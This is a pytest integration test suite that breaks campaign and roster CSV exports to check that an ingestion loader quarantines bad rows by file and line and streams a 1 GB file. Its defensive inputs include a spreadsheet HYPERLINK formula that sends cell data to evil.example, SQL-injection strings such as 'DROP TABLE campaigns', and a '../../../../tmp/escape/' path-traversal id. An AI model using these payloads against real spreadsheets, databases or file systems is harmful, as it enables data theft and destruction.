"""Bad input corpus for the campaign exports and the roster: every broken file or row gets a
clear message naming file and line, only the bad rows are quarantined, the rest loads, and the
landed tables stay readable. Each case starts from the sandbox world's good exports and breaks
one thing (generated here, so the expected numbers come from the case itself).
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from rel_harness import REPO, D, check_landing_readable, world_config

from ingestion.exports import load_exports
from ingestion.roster import RosterError, read_roster

pytestmark = pytest.mark.integration


@pytest.fixture(scope="module")
def good_exports(tmp_path_factory) -> Path:
    from sandbox import export_world

    out = tmp_path_factory.mktemp("exports")
    export_world(world_config(), out)
    return out


def data_lines(path: Path) -> int:
    return sum(1 for line in path.read_bytes().splitlines()[1:] if line.strip())


def edit_line(path: Path, line: int, fn: Callable[[str], str]) -> None:
    """Replace physical line `line` (header = 1) of a CSV with fn(old line)."""
    lines = path.read_text().split("\n")
    lines[line - 1] = fn(lines[line - 1])
    path.write_text("\n".join(lines))


def set_cell(path: Path, line: int, column: str, value: str) -> None:
    import csv
    import io

    header = path.read_text().split("\n", 1)[0].split(",")

    def change(old: str) -> str:
        cells = next(csv.reader([old]))
        cells[header.index(column)] = value
        buf = io.StringIO()
        csv.writer(buf, lineterminator="").writerow(cells)
        return buf.getvalue()

    edit_line(path, line, change)


@dataclass(frozen=True)
class Case:
    """One way of breaking the exports and what the loader must say about it."""

    name: str
    breaks: Callable[[Path], None]
    entity: str
    bad_lines: tuple[int, ...] | str  # quarantined lines, or "all" for a file-level error
    message: str  # must appear in each quarantine reason (and the manifest for file errors)
    verbatim: tuple[str, str] | None = None  # (column, value) landed exactly as written
    header: bool = True  # False: line 1 is data too and must be accounted for


def _semicolons(d: Path) -> None:
    p = d / "conversions.csv"
    p.write_text(p.read_text().replace(",", ";"))


def _bom(d: Path) -> None:
    p = d / "brands.csv"
    p.write_bytes(b"\xef\xbb\xbf" + p.read_bytes())


def _no_header(d: Path) -> None:
    p = d / "conversions.csv"
    p.write_text(p.read_text().split("\n", 1)[1])


def _missing_column(d: Path) -> None:
    p = d / "fx_rates.csv"
    lines = p.read_text().split("\n")
    p.write_text("\n".join(",".join(line.split(",")[:2]) for line in lines))


def _extra_column(d: Path) -> None:
    p = d / "brands.csv"
    lines = p.read_text().rstrip("\n").split("\n")
    p.write_text("\n".join([lines[0] + ",notes"] + [f"{x},free text" for x in lines[1:]]) + "\n")


def _bad_dates_and_numbers(d: Path) -> None:
    p = d / "conversions.csv"
    set_cell(p, 2, "date", "2026-13-45")
    set_cell(p, 5, "revenue", "12,50")
    set_cell(p, 9, "clicks", "-3")
    set_cell(p, 12, "revenue", "NaN")


def _duplicate_key(d: Path) -> None:
    p = d / "brands.csv"
    lines = p.read_text().rstrip("\n").split("\n")
    p.write_text("\n".join([*lines, lines[1]]) + "\n")


def _unknown_currency(d: Path) -> None:
    set_cell(d / "campaign_creators.csv", 3, "currency", "XYZ")
    set_cell(d / "campaign_creators.csv", 4, "currency", "€")


def _latin1(d: Path) -> None:
    p = d / "brands.csv"
    lines = p.read_bytes().split(b"\n")
    lines[2] = lines[2].replace(b",", b" caf\xe9,", 1)
    p.write_bytes(b"\n".join(lines))


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SQLISH = "O'Neil \"; DROP TABLE campaigns; --"


def _formula(d: Path) -> None:
    set_cell(d / "brands.csv", 2, "name", FORMULA)


def _sqlish(d: Path) -> None:
    set_cell(d / "campaigns.csv", 3, "name", SQLISH)


def _slashes_in_ids(d: Path) -> None:
    """A campaign id with slashes and dots must stay a value, never become a path."""
    p = d / "campaigns.csv"
    lines = p.read_text().split("\n")
    old = lines[1].split(",", 1)[0]
    new = "../../../../tmp/escape/" + old
    for name in ("campaigns.csv", "campaign_creators.csv", "conversions.csv"):
        f = d / name
        f.write_text("\n".join(_swap_id(x, old, new) for x in f.read_text().split("\n")))


def _swap_id(line: str, old: str, new: str) -> str:
    return new + line[len(old) :] if line.startswith(old + ",") else line


CASES = [
    Case("wrong-delimiter", _semicolons, "conversions", "all", "semicolon-separated"),
    Case("bom", _bom, "brands", (), ""),
    Case("missing-header", _no_header, "conversions", "all", "missing column(s)", header=False),
    Case("missing-column", _missing_column, "fx_rates", "all", "missing column(s) usd_per_unit"),
    Case("extra-column", _extra_column, "brands", (), ""),
    Case(
        "bad-dates-numbers", _bad_dates_and_numbers, "conversions", (2, 5, 9, 12), "conversions.csv"
    ),
    Case("duplicate-key", _duplicate_key, "brands", (5,), "duplicate brand_id B0001"),
    Case("unknown-currency", _unknown_currency, "campaign_creators", (3, 4), "currency code|XYZ"),
    Case("non-utf8", _latin1, "brands", (3,), "not valid UTF-8 (byte 0xe9"),
    Case("formula", _formula, "brands", (), "", ("name", FORMULA)),
    Case("sql-and-quotes", _sqlish, "campaigns", (), "", ("name", SQLISH)),
]
# entity -> the exports whose rows refer to it (a broken file quarantines their references too)
DEPENDENTS = {
    "fx_rates": {"campaign_creators", "conversions"},
    "brands": {"campaigns", "campaign_creators", "conversions"},
    "campaigns": {"campaign_creators", "conversions"},
    "campaign_creators": set(),
    "conversions": set(),
}


def landed_rows(landing: Path, entity: str) -> list[dict]:
    files = list((landing / "records" / entity / f"dt={D}").glob("*.parquet"))
    return [r for f in files for r in pq.read_table(f).to_pylist()]


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_bad_export_quarantines_only_bad_rows_with_file_and_line(case, good_exports, tmp_path):
    exports = tmp_path / "exports"
    shutil.copytree(good_exports, exports)
    good_counts = {
        e: data_lines(good_exports / f"{e}.csv")
        for e in ("brands", "campaigns", "campaign_creators", "conversions", "fx_rates")
    }
    case.breaks(exports)
    roster = read_roster(exports / "roster.csv")
    landing = tmp_path / "kol" / "landing"
    manifest = load_exports(exports, landing, D, "r1", roster.entries, roster.quarantined)

    served = data_lines(exports / f"{case.entity}.csv") + (0 if case.header else 1)
    entry = manifest["entities"][case.entity]
    quarantine = []
    if manifest["quarantine"]:
        text = (landing / manifest["quarantine"]["file"]).read_text()
        quarantine = [json.loads(x) for x in text.splitlines()]
    mine = [q for q in quarantine if q["entity"] == case.entity]
    # nothing lost: every data line of the file is landed or quarantined
    assert entry["served"] == entry["landed"] + entry["quarantined"] == served, entry
    assert len(landed_rows(landing, case.entity)) == entry["landed"]
    if case.bad_lines == "all":
        assert entry["landed"] == 0 and len(mine) == served
        assert case.message in manifest["reason"] and f"{case.entity}.csv" in manifest["reason"]
        assert manifest["status"] == "partial"
    else:
        assert sorted(q["line"] for q in mine) == sorted(case.bad_lines), mine
    for q in mine:
        assert q["file"] == f"{case.entity}.csv" and q["record"]
        assert any(m in q["reason"] for m in case.message.split("|")), q["reason"]
        if case.bad_lines != "all":
            assert q["reason"].startswith(f"{case.entity}.csv line {q['line']}: ")
    # only the bad rows: files that do not reference the broken one load in full; those that
    # do lose only rows pointing at what was quarantined, each with that reason
    for entity, n in good_counts.items():
        if entity == case.entity:
            continue
        landed = manifest["entities"][entity]["landed"]
        if entity not in DEPENDENTS[case.entity]:
            assert landed == n, entity
        for q in quarantine:
            if q["entity"] == entity:
                assert "unknown" in q["reason"] or "no fx rate" in q["reason"], q
    if case.verbatim:
        column, value = case.verbatim
        assert value in [r[column] for r in landed_rows(landing, case.entity)]
    # no file outside the landing zone, and every landed file opens whole
    assert not (tmp_path.parent / "tmp" / "escape").exists()
    for path in landing.parent.rglob("*"):
        assert path.resolve().is_relative_to(landing.parent.resolve())
    assert check_landing_readable(landing) >= 6


def test_slashes_in_campaign_ids_stay_values(good_exports, tmp_path):
    exports = tmp_path / "exports"
    shutil.copytree(good_exports, exports)
    _slashes_in_ids(exports)
    roster = read_roster(exports / "roster.csv")
    landing = tmp_path / "kol" / "landing"
    manifest = load_exports(exports, landing, D, "r1", roster.entries)
    ids = {r["campaign_id"] for r in landed_rows(landing, "campaign_creators")}
    assert any(i.startswith("../../../../tmp/escape/") for i in ids)
    for entity in ("campaigns", "campaign_creators", "conversions"):
        e = manifest["entities"][entity]
        assert e["quarantined"] == 0 and e["landed"] == data_lines(exports / f"{entity}.csv")
    created = {p.resolve() for p in tmp_path.rglob("*")}
    assert all(p.is_relative_to(tmp_path.resolve()) for p in created)
    assert not Path("/tmp/escape").exists()


# --- the roster ---------------------------------------------------------------------------


def roster_with(good_exports: Path, tmp_path: Path, lines: list[str]) -> Path:
    path = tmp_path / "roster.csv"
    path.write_text(
        (good_exports / "roster.csv").read_text().rstrip("\n") + "\n" + "\n".join(lines)
    )
    return path


def test_bad_roster_lines_are_quarantined_by_line_and_the_rest_runs(good_exports, tmp_path):
    good = data_lines(good_exports / "roster.csv")
    bad = [
        "C00001,Dup,instagram,elinguye_0,,beauty,US,en",  # duplicate handle
        "C00099,Nobody,myspace,nobody,,beauty,US,en",  # unknown platform
        "C00098,No Handle,tiktok,,,beauty,US,en",  # missing handle
        "C00097,No Page,facebook,somepage,,food,US,en",  # page id required
        "C00096,Too,many,fields,here,x,y,z,extra",  # field count
    ]
    path = roster_with(good_exports, tmp_path, bad)
    load = read_roster(path)
    assert len(load.entries) == good
    first_bad = good + 2
    assert [q.line for q in load.quarantined] == list(range(first_bad, first_bad + len(bad)))
    for q, fragment in zip(
        load.quarantined,
        [
            "duplicate account",
            "unknown platform",
            "missing handle",
            "account_id is required",
            "fields",
        ],
        strict=True,
    ):
        assert q.reason.startswith(f"roster.csv line {q.line}: ") and fragment in q.reason


def test_unusable_roster_file_raises_a_clear_error(good_exports, tmp_path):
    path = tmp_path / "roster.csv"
    path.write_text((good_exports / "roster.csv").read_text().replace(",", ";"))
    with pytest.raises(RosterError, match=r"roster.csv.*semicolon-separated"):
        read_roster(path)
    path.write_bytes("creator_id,handle\n".encode("utf-16"))
    with pytest.raises(RosterError, match="UTF-16"):
        read_roster(path)


def test_roster_names_with_quotes_and_sql_stay_verbatim(good_exports, tmp_path):
    path = roster_with(
        good_exports,
        tmp_path,
        ['C00095,"O\'Neil ""; DROP TABLE roster; --",tiktok,oneil_95,,beauty,US,en'],
    )
    load = read_roster(path)
    assert not load.quarantined
    assert load.entries[-1].display_name == "O'Neil \"; DROP TABLE roster; --"


# --- a 1 GB export streams -------------------------------------------------------------------

LOAD_SCRIPT = """
import json, sys
from datetime import date
from pathlib import Path
from ingestion.exports import load_exports
from ingestion.roster import read_roster
exports, landing = Path(sys.argv[1]), Path(sys.argv[2])
roster = read_roster(exports / "roster.csv")
m = load_exports(exports, landing, date.fromisoformat(sys.argv[3]), "big", roster.entries)
print(json.dumps(m["entities"]["conversions"], default=str))
"""
GIB = 1 << 30
RSS_LIMIT_MB = 300


def write_big_conversions(
    good: Path, out: Path, size: int, bad_every: int
) -> tuple[int, list[int]]:
    """Stream a `size`-byte conversions.csv (good rows + a free-text column, every
    `bad_every`-th row with a bad date). Returns (data rows, bad line numbers)."""
    lines = (good / "conversions.csv").read_text().splitlines()
    header, rows = lines[0] + ",notes", lines[1:]
    notes = "free text from the CRM " * 90  # ~2 KB a row, as wide exports are
    written, n, bad = 0, 0, []
    with out.open("w") as fh:
        fh.write(header + "\n")
        while written < size:
            row = rows[n % len(rows)]
            n += 1
            if n % bad_every == 0:
                cells = row.split(",")
                cells[2] = "31/02/2026"
                row = ",".join(cells)
                bad.append(n + 1)
            line = f'{row},"{notes}{n}"\n'
            fh.write(line)
            written += len(line)
    return n, bad


@pytest.mark.slow
def test_a_1gb_export_is_streamed_in_bounded_memory(good_exports, tmp_path):
    exports = tmp_path / "exports"
    shutil.copytree(good_exports, exports)
    rows, bad = write_big_conversions(good_exports, exports / "conversions.csv", GIB, 100_003)
    assert (exports / "conversions.csv").stat().st_size >= GIB
    landing = tmp_path / "kol" / "landing"
    out_file, err_file = tmp_path / "load.out", tmp_path / "load.err"
    with out_file.open("w") as out, err_file.open("w") as err:
        proc = subprocess.Popen(
            [sys.executable, "-c", LOAD_SCRIPT, str(exports), str(landing), D.isoformat()],
            cwd=REPO,
            stdout=out,
            stderr=err,
        )
        _, status, usage = os.wait4(proc.pid, 0)  # this child's own peak RSS
        proc.returncode = os.waitstatus_to_exitcode(status)
    assert proc.returncode == 0, err_file.read_text()[-2000:]
    peak_mb = usage.ru_maxrss / 1024  # kB on Linux
    entry = json.loads(out_file.read_text())
    assert entry["served"] == rows and entry["quarantined"] == len(bad)
    assert entry["landed"] == rows - len(bad)
    assert pq.read_metadata(landing / entry["files"][0]).num_rows == rows - len(bad)
    quarantine = (landing / "quarantine" / "exports" / f"dt={D}" / "big.jsonl").read_text()
    assert sorted(json.loads(x)["line"] for x in quarantine.splitlines()) == bad
    assert "conversions.csv line" in quarantine and "is not a date" in quarantine
    print(f"\n1 GB export: {rows} rows, peak RSS {peak_mb:.0f} MB")
    assert peak_mb < RSS_LIMIT_MB, f"peak RSS {peak_mb:.0f} MB: the loader is not streaming"
